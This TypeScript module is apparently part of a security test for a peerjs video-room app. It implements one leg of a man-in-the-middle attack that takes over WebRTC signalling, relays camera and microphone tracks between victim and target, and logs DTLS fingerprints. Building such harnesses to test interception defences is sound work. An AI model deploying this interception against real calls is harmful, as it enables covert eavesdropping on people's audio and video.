/**
 * One leg of the man in the middle (see mitm-attacker.ts): the attacker's end of an intercepted
 * video-room link, and the helpers it shares with the attacker.
 */
import type { DataConnection } from 'peerjs';
import { fingerprints } from './mitm-sdp.js';

export const KINDS = ['audio', 'video'] as const;
export type Kind = (typeof KINDS)[number];

/** The first live transceiver of each kind: the camera and microphone m-lines. */
export function cameraTransceiver(pc: RTCPeerConnection | null | undefined, kind: Kind): RTCRtpTransceiver | undefined {
  if (!pc || pc.signalingState === 'closed') return undefined;
  return pc.getTransceivers().find((t) => t.direction !== 'stopped' && t.receiver.track.kind === kind);
}

export function count(table: Record<string, number>, key: string): void {
  table[key] = (table[key] ?? 0) + 1;
}

/** The type (`t`) of a raw protocol message, `?` when it is not a JSON object with one. */
export function messageType(raw: unknown): string {
  if (typeof raw !== 'string') return '?';
  try {
    const data: unknown = JSON.parse(raw);
    return typeof data === 'object' && data !== null && typeof (data as { t?: unknown }).t === 'string' ? (data as { t: string }).t : '?';
  } catch {
    return '?';
  }
}

/**
 * Puts the tracks received on `from` on the senders of `to` (camera and microphone only),
 * and notes which kinds are relayed.
 */
export async function relayTracks(from: RTCPeerConnection | null | undefined, to: RTCPeerConnection | null | undefined, relaying: Set<string>): Promise<void> {
  if (!from || !to || to.signalingState === 'closed') return;
  await Promise.all(
    KINDS.map(async (kind) => {
      const track = cameraTransceiver(from, kind)?.receiver.track;
      const sender = cameraTransceiver(to, kind)?.sender;
      if (!track || !sender) return;
      if (sender.track !== track) await sender.replaceTrack(track).catch(() => undefined);
      if (sender.track === track) relaying.add(kind);
    }),
  );
}

/** Accepts the offered camera and microphone sendrecv, as video-room's answerer does. */
export function acceptCamera(pc: RTCPeerConnection): void {
  for (const kind of KINDS) {
    const transceiver = cameraTransceiver(pc, kind);
    if (transceiver) transceiver.direction = 'sendrecv';
  }
}

/**
 * One leg of an intercepted video-room link: the attacker's end of a DataConnection whose
 * RTCPeerConnection it drives itself over the channel, with the perfect-negotiation pattern.
 * On the victim's leg it is the polite answerer; on the target's leg, the impolite dialer that
 * offers the camera and microphone transceivers, as video-room's dialer does.
 */
export class Leg {
  readonly seen = { local: null as string | null, remote: null as string | null };
  readonly relaying = new Set<string>();
  readonly terminated: Record<string, number> = {};
  /** Messages for this leg's far end, held until its channel opens. */
  private readonly outbox: unknown[] = [];
  private makingOffer = false;
  private pcRef: RTCPeerConnection | null = null;
  /** Incoming signalling, handled in order once `ready` has resolved. */
  private signalling: Promise<void>;

  constructor(
    readonly conn: DataConnection,
    private readonly dialer: boolean,
    /** A message for the other leg (anything but `sdp` and `ice`), as received. */
    private readonly onRelay: (data: unknown) => void,
    /** Called whenever this leg's transceivers or tracks may have changed. */
    private readonly onMedia: () => void,
    /** Signalling from this leg's far end waits for this. */
    ready: Promise<void> = Promise.resolve(),
  ) {
    this.signalling = ready;
    conn.on('open', () => this.open());
    conn.on('data', (data) => this.receive(data));
    if (conn.open) queueMicrotask(() => this.open());
  }

  get pc(): RTCPeerConnection | null {
    return this.pcRef ?? (this.conn.peerConnection as RTCPeerConnection | null) ?? null;
  }

  /** Sends a message, as received on the other leg, to this leg's far end now or once its channel opens. */
  send(data: unknown): void {
    if (this.conn.open) void this.conn.send(data);
    else this.outbox.push(data);
  }

  note(): void {
    const now = fingerprints(this.pc);
    this.seen.local = now.local ?? this.seen.local;
    this.seen.remote = now.remote ?? this.seen.remote;
  }

  private open(): void {
    const pc = this.conn.peerConnection as RTCPeerConnection | null;
    if (!pc || this.pcRef) return;
    this.pcRef = pc;
    this.note();
    // From here on, signalling goes over the channel, as video-room does it.
    pc.onicecandidate = null;
    pc.addEventListener('icecandidate', ({ candidate }) => {
      if (candidate) this.sendSignal({ t: 'ice', candidate: candidate.toJSON() });
    });
    pc.addEventListener('negotiationneeded', () => void this.offer());
    pc.addEventListener('track', () => this.onMedia());
    for (const data of this.outbox.splice(0)) void this.conn.send(data);
    // The camera and microphone were negotiated in the first handshake, as video-room does it
    // (prepareFirstOffers on the attacker's Peer; the victim's leg accepts them in interceptLink).
    if (this.dialer && pc.getTransceivers().length === 0) for (const kind of KINDS) pc.addTransceiver(kind, { direction: 'sendrecv' });
    this.onMedia();
  }

  private sendSignal(message: object): void {
    if (this.conn.open) void this.conn.send(JSON.stringify(message));
  }

  private async offer(): Promise<void> {
    const pc = this.pc;
    if (!pc) return;
    try {
      this.makingOffer = true;
      await pc.setLocalDescription();
      this.note();
      const description = pc.localDescription;
      if (description) this.sendSignal({ t: 'sdp', description: { type: description.type, sdp: description.sdp } });
    } catch {
      // A failed offer leaves the state stable; the next negotiationneeded retries.
    } finally {
      this.makingOffer = false;
    }
  }

  private receive(data: unknown): void {
    const type = messageType(data);
    if (type !== 'sdp' && type !== 'ice') {
      // Everything else is the protocol itself: relayed verbatim.
      this.onRelay(data);
      return;
    }
    count(this.terminated, type);
    const message = JSON.parse(data as string) as { description?: RTCSessionDescriptionInit; candidate?: RTCIceCandidateInit | null };
    this.signalling = this.signalling.then(async () => {
      if (type === 'sdp' && message.description) await this.describe(message.description);
      if (type === 'ice') await this.pc?.addIceCandidate(message.candidate ?? undefined).catch(() => undefined);
    });
  }

  private async describe(description: RTCSessionDescriptionInit): Promise<void> {
    const pc = this.pc;
    if (!pc) return;
    const collision = description.type === 'offer' && (this.makingOffer || pc.signalingState !== 'stable');
    // The dialer (impolite) ignores a colliding offer; the answerer rolls back and answers.
    if (this.dialer && collision) return;
    try {
      await pc.setRemoteDescription(description);
      this.note();
      if (description.type === 'offer') {
        acceptCamera(pc);
        this.onMedia();
        await pc.setLocalDescription();
        this.note();
        const answer = pc.localDescription;
        if (answer) this.sendSignal({ t: 'sdp', description: { type: 'answer', sdp: answer.sdp } });
      }
      this.onMedia();
    } catch {
      // A description that does not apply: the far end's own recovery takes over.
    }
  }
}
